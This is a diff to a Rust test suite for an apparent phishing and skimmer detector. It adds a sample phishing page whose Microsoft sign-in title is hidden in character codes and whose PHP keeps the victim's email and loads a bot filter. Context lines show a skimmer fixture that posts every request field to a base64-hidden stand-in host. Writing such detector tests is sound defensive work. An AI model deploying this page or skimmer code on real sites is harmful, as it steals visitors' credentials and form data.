@@ -548,6 +548,27 @@ fn a_page_dressed_as_a_providers_sign_in_that_mails_what_it_is_sent_is_phishing(
 }
 
 #[test]
+fn a_sign_in_title_hidden_in_character_codes_is_phishing() {
+    // Regression: fresh93's Microsoft kit writes `Sign in to your Microsoft account` one
+    // character code per letter, and keeps the address it is sent in the session.
+    let coded: String = "Sign in to your Microsoft account".bytes().map(|b| format!("&#{b};")).collect();
+    let page = format!(
+        "<?php session_start(); require 'core/blocker.php';\nif (isset($_POST['user'])) {{ $_SESSION['email'] = base64_encode($_POST['user']); exit(); }} ?>\n\
+         <html><head><title>{coded}</title></head><body><form method=post><input name=user></form></body></html>"
+    );
+    assert_eq!(found(&page), [Why::PhishingPage]);
+    assert_eq!(decode_codes(b"&#x53;&#105; &#103;"), b"Sig");
+    // The site's own title in codes (an accent written as a code) names no provider's sign-in.
+    let own = page.replace(&coded, "&#67;&#97;&#102;&#233;&#32;&#76;&#111;&#103;&#105;&#110;");
+    assert!(found(&own).is_empty(), "{:?}", found(&own));
+    // Written plainly, the title and the kit's visitor filter together tell the same.
+    let plain = page.replace(&coded, "Sign in to your Microsoft account");
+    assert_eq!(found(&plain), [Why::PhishingBotFilter]);
+    let unfiltered = plain.replace("require 'core/blocker.php';", "");
+    assert!(found(&unfiltered).is_empty(), "{:?}", found(&unfiltered));
+}
+
+#[test]
 fn a_whole_request_posted_to_an_address_hidden_in_the_code_is_a_skimmer() {
     let skimmer = "<?php $c = curl_init(base64_decode('aHR0cHM6Ly94LmV4YW1wbGUv'));\n\
                    curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($_REQUEST)); curl_exec($c);";
